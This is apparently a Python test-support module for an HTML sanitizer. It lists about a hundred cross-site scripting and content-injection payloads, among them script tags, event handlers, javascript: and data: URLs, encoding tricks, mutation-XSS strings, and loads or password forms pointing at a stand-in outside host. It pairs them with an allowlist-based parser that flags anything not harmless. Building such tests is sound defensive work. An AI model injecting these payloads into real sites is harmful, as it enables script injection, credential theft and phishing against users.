"""Rich text that tries to run, load or restyle something, and a judge that has nothing in common with the cleaner."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    # plain scripts, in every spelling
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script\x0csrc='https://elsewhere.example/x.js'></script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import 'https://elsewhere.example/x.js'</script>",
    "<svg><script>alert(1)</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x OnErRoR=alert(1)//>",
    '<p onclick="alert(1)">press</p>',
    "<p onpointerenter=alert(1)>hover</p>",
    "<p tabindex=1 onfocus=alert(1) autofocus>focus</p>",
    "<ul onscroll=alert(1)><li>a</li></ul>",
    "<td onmouseover=alert(1)>cell</td>",
    "<table onload=alert(1)><tr><td>a</td></tr></table>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<body onload=alert(1)>text",
    "<video autoplay onplay=alert(1)><source src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext onclick=alert(1)>m</mtext></math>",
    "<select autofocus onfocus=alert(1)></select>",
    "<a href='/privacy/' onclick='alert(1)'>link</a>",
    "<strong style='x' onanimationstart=alert(1)>s</strong>",
    # links that run
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;&#x76;ascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript://%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://elsewhere.example/1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form action='javascript:alert(1)'><button>b</button></form>",
    "<button formaction='javascript:alert(1)'>b</button>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    # addresses that look like ours
    "<a href='//elsewhere.example'>x</a>",
    "<a href='\\\\elsewhere.example'>x</a>",
    "<a href='/\\elsewhere.example'>x</a>",
    "<a href='/\t/elsewhere.example'>x</a>",
    "<a href='\x02//elsewhere.example'>x</a>",
    "<a href='&#9;//elsewhere.example'>x</a>",
    # what loads from elsewhere or takes the page over
    "<img src='https://elsewhere.example/pixel'>",
    "<img srcset='https://elsewhere.example/pixel 1x'>",
    "<picture><source srcset='https://elsewhere.example/p'><img></picture>",
    "<iframe src='https://elsewhere.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href='https://elsewhere.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<base href='https://elsewhere.example/'>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<p style='background:url(https://elsewhere.example/p)'>x</p>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<table background='https://elsewhere.example/p'><tr><td>a</td></tr></table>",
    "<form action='https://elsewhere.example'><input name=password></form>",
    "<input type=image src='https://elsewhere.example/p'>",
    "<a href='https://ok.example' ping='https://elsewhere.example'>x</a>",
    "<a href='https://ok.example' target=_blank>x</a>",
    "<p id=main class=notice>clobber</p>",
    "<a name=forms href='#main'>clobber</a>",
    "<portal src='https://elsewhere.example'></portal>",
    # text that changes its meaning when it is read twice
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<p title='`><img src=x onerror=alert(1)>`'>x</p>",
    "<table><caption><a href='javascript:alert(1)'>x</a></caption></table>",
    "<table><tr><td colspan='1 onmouseover=alert(1)'>a</td></tr></table>",
    "<ol start='1\" onclick=\"alert(1)'><li>a</li></ol>",
    "<p>\x00<script>al\x00ert(1)</script></p>",
    "<p>\ud800<img src=x onerror=alert(1)></p>",
    "<x-widget onclick=alert(1)>w</x-widget>",
    "<frameset onload=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
]

HARMLESS = {
    "p": set(),
    "br": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "strong": set(),
    "em": set(),
    "blockquote": set(),
    "a": {"href"},
    "table": set(),
    "caption": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"scope", "colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}
# What the site's own template puts around the editors' text.
OF_THE_TEMPLATE = {
    "section": {"class"},
    "h2": {"id", "tabindex"},
    "h3": {"id", "tabindex"},
    "span": {"class"},
    "div": {"class", "role", "tabindex", "aria-label", "id"},
    "table": {"role"},
    "thead": {"role"},
    "tbody": {"role"},
    "tr": {"role"},
    "th": {"scope", "role", "data-label"},
    "td": {"role", "data-label"},
    "details": {"class"},
    "summary": set(),
}
NUMBERS = {"start", "colspan", "rowspan"}
ADDRESS = re.compile(r"https?://[^/\\]|mailto:|tel:|#|/(?![/\\])|[^:/\\]*$", re.IGNORECASE)


def dangers(html, allowed=HARMLESS):
    """Every tag, attribute or address that is not on the short list of harmless ones."""
    judge = Judge(allowed)
    judge.feed(html)
    judge.close()
    return judge.found


class Judge(HTMLParser):
    def __init__(self, allowed):
        super().__init__(convert_charrefs=True)
        self.allowed, self.found = allowed, []

    def handle_starttag(self, tag, attributes):
        if tag not in self.allowed:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            value = re.sub(r"[\x00-\x20]", "", value or "")
            if name not in self.allowed.get(tag, ()):
                self.found.append(f"<{tag} {name}>")
            elif name == "href" and not ADDRESS.match(value):
                self.found.append(value)
            elif name in NUMBERS and not value.isdecimal():
                self.found.append(f"{name}={value}")

    def handle_comment(self, text):
        self.found.append(f"<!--{text}")

    def handle_decl(self, text):
        self.found.append(f"<!{text}")

    unknown_decl = handle_decl

    def handle_pi(self, text):
        self.found.append(f"<?{text}")
